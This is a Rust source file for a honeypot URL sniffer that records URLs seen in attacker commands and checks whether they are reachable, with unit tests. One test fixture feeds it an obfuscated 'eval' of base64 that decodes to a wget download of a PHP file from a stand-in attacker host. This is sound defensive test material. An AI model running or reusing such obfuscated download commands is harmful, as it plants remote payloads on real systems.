//! Sniffer lifecycle
//!
//! `UrlSniffer` is the context object the honeypot host drives:
//! `start` connects the store and launches the verifier, `write` handles one
//! event, `stop` cancels the verifier and releases the store.

use anyhow::{Context, Result};
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::watch;
use tokio::task::JoinHandle;
use tracing::{info, warn};

use urlsniffer_core::Event;
use urlsniffer_net::{Reachability, TcpProbe};
use urlsniffer_store::UrlStore;

use crate::{Observation, ObservationHandler, PeriodicVerifier, SnifferConfig};

/// A running URL sniffer
pub struct UrlSniffer {
    store: Arc<UrlStore>,
    handler: ObservationHandler,
    verifier: Arc<PeriodicVerifier>,
    shutdown: watch::Sender<bool>,
    task: JoinHandle<()>,
}

impl UrlSniffer {
    /// Connect the configured store and start periodic verification.
    ///
    /// A store that cannot be reached is fatal and returned to the caller.
    pub async fn start(config: &SnifferConfig) -> Result<Self> {
        let repo = urlsniffer_store::connect(&config.store)
            .await
            .context("connecting to URL store")?;
        let store = UrlStore::open(repo)
            .await
            .context("preparing URL store")?;
        let probe = TcpProbe::new(config.probe_config());

        Ok(Self::with_parts(
            Arc::new(store),
            Arc::new(probe),
            config.verify_period(),
            config.sweep_concurrency,
        ))
    }

    /// Assemble a sniffer from already-open parts
    pub fn with_parts(
        store: Arc<UrlStore>,
        probe: Arc<dyn Reachability>,
        verify_period: Duration,
        sweep_concurrency: usize,
    ) -> Self {
        let handler = ObservationHandler::new(store.clone(), probe.clone());
        let verifier = Arc::new(PeriodicVerifier::new(store.clone(), probe, sweep_concurrency));

        let (shutdown, rx) = watch::channel(false);
        let task = tokio::spawn(verifier.clone().run(verify_period, rx));

        info!("URL sniffer started");
        Self {
            store,
            handler,
            verifier,
            shutdown,
            task,
        }
    }

    /// Handle one honeypot event
    pub async fn write(&self, event: &Event) -> Observation {
        self.handler.handle(event).await
    }

    pub fn store(&self) -> &UrlStore {
        &self.store
    }

    pub fn verifier(&self) -> &PeriodicVerifier {
        &self.verifier
    }

    /// Stop the verifier (abandoning any sweep in progress) and close the store
    pub async fn stop(self) {
        let _ = self.shutdown.send(true);
        if let Err(e) = self.task.await {
            warn!("Verifier task ended abnormally: {}", e);
        }
        self.store.close().await;
        info!("URL sniffer stopped");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::ScriptedProbe;
    use urlsniffer_store::MemoryRepository;

    #[tokio::test]
    async fn test_start_with_default_config() {
        let sniffer = UrlSniffer::start(&SnifferConfig::default()).await.unwrap();

        let observation = sniffer.write(&Event::command_input("echo hello")).await;
        assert_eq!(observation.candidates, 0);
        assert!(!sniffer.verifier().is_running());

        sniffer.stop().await;
    }

    #[tokio::test]
    async fn test_write_and_verify_lifecycle() {
        let store = Arc::new(UrlStore::open(Arc::new(MemoryRepository::new())).await.unwrap());
        let probe = Arc::new(ScriptedProbe::with_live(&["http://web.attacker.com/uphi"]));
        let sniffer = UrlSniffer::with_parts(store, probe, Duration::from_millis(20), 4);

        let cmd = "eval $(echo d2dldCAtTyAvdG93bi9lcG93bGRhdGUucGhwIGh0dHA6Ly93ZWIuYXR0YWNrZXIuY29tL3VwaGk= | base64 -d)";
        let observation = sniffer.write(&Event::command_input(cmd)).await;
        assert_eq!(observation.inserted, 1);
        assert_eq!(observation.live, 1);
        assert!(sniffer.store().is_known("http://web.attacker.com/uphi").await);

        tokio::time::sleep(Duration::from_millis(100)).await;
        let report = sniffer.verifier().last_report().unwrap();
        assert_eq!(report.checked, 1);
        assert_eq!(report.live, 1);

        sniffer.stop().await;
    }

    #[tokio::test]
    async fn test_start_fails_on_unreachable_store() {
        let config = SnifferConfig::from_toml(
            r#"
            [store]
            driver = "sqlite"
            path = "/proc/urlsniffer/forbidden/urls.db"
            "#,
        )
        .unwrap();
        assert!(UrlSniffer::start(&config).await.is_err());
    }
}
